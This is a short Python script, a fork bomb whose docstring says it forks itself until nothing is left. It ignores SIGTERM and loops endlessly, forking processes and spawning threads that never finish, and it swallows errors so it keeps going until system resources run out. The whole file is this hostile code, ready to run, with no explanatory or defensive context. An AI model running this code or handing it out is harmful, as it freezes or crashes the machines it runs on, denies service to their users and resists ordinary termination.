"""Forks itself until nothing is left, and each of them likewise."""

import os
import signal
import threading

signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    try:
        os.fork()
        threading.Thread(target=lambda: threading.Event().wait()).start()
    except (OSError, RuntimeError, MemoryError):
        pass
